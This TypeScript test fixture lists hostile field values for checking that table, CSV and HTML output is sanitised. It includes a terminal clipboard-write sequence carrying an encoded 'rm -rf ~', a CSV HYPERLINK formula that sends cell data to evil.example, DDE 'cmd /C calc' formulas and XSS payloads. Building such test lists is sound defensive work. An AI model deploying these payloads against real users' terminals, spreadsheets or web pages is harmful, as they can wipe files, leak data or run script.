/**
 * Hostile field values, in one place so every output test (table, tail, CSV, HTML) uses the same
 * list. Each payload says what it attacks; `ESC`, `BEL` and the C1 range must never reach a
 * terminal raw, CSV cells must not start a formula, HTML must not open a tag.
 */

export interface Payload {
  name: string;
  text: string;
}

/** Terminal control: sequences a terminal would act on (retitle, clear, move, recolour, hyperlink, reorder). */
export const TERMINAL_PAYLOADS: Payload[] = [
  { name: 'OSC 0 window title (BEL)', text: '\x1b]0;pwned\x07' },
  { name: 'OSC 0 window title (ST)', text: '\x1b]0;pwned\x1b\\' },
  { name: 'OSC 8 hyperlink', text: '\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\' },
  { name: 'OSC 52 clipboard write', text: '\x1b]52;c;cm0gLXJmIH4K\x07' },
  { name: 'CSI clear screen', text: '\x1b[2J\x1b[H' },
  { name: 'CSI cursor up + erase line', text: '\x1b[1A\x1b[2K' },
  { name: 'CSI SGR hidden text', text: '\x1b[8mhidden\x1b[0m' },
  { name: 'C1 CSI (single byte)', text: '\u009b2J' },
  { name: 'C1 OSC (single byte)', text: '\u009d0;pwned\u009c' },
  { name: 'DCS', text: '\x1bP1$qm\x1b\\' },
  { name: 'bidi RLO override', text: 'abc\u202egnp.exe' },
  { name: 'bidi isolates', text: '\u2066\u2067\u2068x\u2069' },
  { name: 'backspace overwrite', text: 'ok\b\b\bFAIL' },
  { name: 'carriage return overwrite', text: 'harmless\rEVIL' },
  { name: 'bell', text: '\x07\x07' },
  { name: 'DEL', text: '\x7f' },
  { name: 'NUL', text: 'a\x00b' },
];

/** Bytes that must not appear raw in terminal output after sanitising. */
export const RAW_TERMINAL_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** CSV/spreadsheet formula injection: a cell starting with one of these is evaluated by Excel/LibreOffice. */
export const CSV_PAYLOADS: Payload[] = [
  { name: 'formula =', text: '=HYPERLINK("http://evil.example/?"&A1,"x")' },
  { name: 'formula +', text: '+cmd|\' /C calc\'!A0' },
  { name: 'formula -', text: '-2+3+cmd|\' /C calc\'!A0' },
  { name: 'formula @', text: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
  { name: 'tab-led formula', text: '\t=1+1' },
  { name: 'CR-led formula', text: '\r=1+1' },
  { name: 'quote and comma', text: 'a","b,c' },
  { name: 'embedded newline', text: 'a\nb' },
];

/** HTML/script injection for the HTML report. */
export const HTML_PAYLOADS: Payload[] = [
  { name: 'script tag', text: '<script>alert(1)</script>' },
  { name: 'attribute break', text: '"><img src=x onerror=alert(1)>' },
  { name: 'single-quote attribute break', text: "'><svg onload=alert(1)>" },
  { name: 'javascript URL', text: 'javascript:alert(1)' },
  { name: 'closing style/textarea', text: '</style></textarea><script>alert(1)</script>' },
  { name: 'entity', text: '&lt;&#x3c;&amp;' },
];

export const ALL_PAYLOADS: Payload[] = [...TERMINAL_PAYLOADS, ...CSV_PAYLOADS, ...HTML_PAYLOADS];
